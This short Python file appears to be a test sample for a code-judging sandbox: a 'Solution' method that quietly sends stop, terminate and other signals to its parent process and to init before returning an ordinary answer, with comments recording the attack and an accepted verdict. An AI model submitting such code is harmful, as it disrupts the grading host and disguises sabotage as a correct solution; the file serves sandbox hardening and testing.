# Attack: stops its parent and init
# Verdict: AC
import os
import signal


class Solution:
    def whisper(self, n: int) -> str:
        for target in {os.getppid(), 1}:
            for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTERM, signal.SIGUSR1, signal.SIGCHLD):
                try:
                    os.kill(target, number)
                except OSError:
                    pass
        return f"heard {7 * n}"
